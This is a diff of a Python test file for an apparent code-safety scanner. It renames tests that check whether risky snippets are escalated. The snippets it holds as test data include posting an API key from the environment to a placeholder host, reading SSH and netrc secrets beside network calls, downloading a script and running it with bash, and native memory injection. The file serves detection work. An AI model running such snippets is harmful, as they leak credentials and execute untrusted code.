@@ -54,7 +54,7 @@ def test_a_decoded_command_is_obfuscated() -> None:
         "import subprocess\nsubprocess.run(f'tool {name}', shell=flag)",
     ],
 )
-def test_a_command_that_is_put_together_for_a_shell_is_asked_about(text: str) -> None:
+def test_a_shell_command_built_at_run_time_is_escalated(text: str) -> None:
     assert actions(text)["PY_SHELL_DYNAMIC"] is Action.ESCALATE
 
 
@@ -78,7 +78,7 @@ def test_ordinary_programs_pass(text: str) -> None:
     assert seen(text) <= {"PY_IMPORT_PROCESS", "PY_IMPORT_NETWORK"}
 
 
-def test_a_download_that_is_checked_is_asked_about() -> None:
+def test_a_download_that_is_verified_before_it_runs_is_escalated() -> None:
     text = (
         f"{FETCH}import hashlib\nopen('a.sh', 'wb').write(r.content)\n"
         "hashlib.sha256(r.content)\nsubprocess.run(['bash', 'a.sh'])"
@@ -133,7 +133,7 @@ def test_a_destination_that_cannot_be_read_is_not_settled(url: str) -> None:
     assert blocks(text, allow_hosts=("example.com",)) == {ReasonCode.EXFILTRATION_RISK}
 
 
-def test_a_token_as_content_is_asked_about() -> None:
+def test_a_token_sent_as_content_is_escalated() -> None:
     text = "import requests, os\nrequests.post('https://e.example', json=os.environ['API_KEY'])"
 
     assert actions(text)["PY_TOKEN_SENT"] is Action.ESCALATE
@@ -157,7 +157,7 @@ def test_logins_and_ordinary_data_pass(text: str) -> None:
 
 
 @pytest.mark.parametrize("read", ["open('/root/.ssh/id_rsa')", "Path('/root/.netrc').read_text()"])
-def test_reading_secrets_beside_a_network_is_asked_about(read: str) -> None:
+def test_reading_secrets_in_code_with_network_access_is_escalated(read: str) -> None:
     text = f"import requests\nfrom pathlib import Path\nkey = {read}\nrequests.get('u')"
 
     assert actions(text)["PY_SECRET_READ"] is Action.ESCALATE
@@ -217,7 +217,7 @@ def test_narrow_and_unknown_targets_pass(text: str) -> None:
         ("library.VirtualAlloc(0, 1, 2, 3)", "PY_NATIVE_INJECTION"),
     ],
 )
-def test_rights_and_footholds_are_asked_about(text: str, rule: str) -> None:
+def test_permission_changes_and_persistence_are_escalated(text: str, rule: str) -> None:
     assert actions(text) == {rule: Action.ESCALATE}
 
 
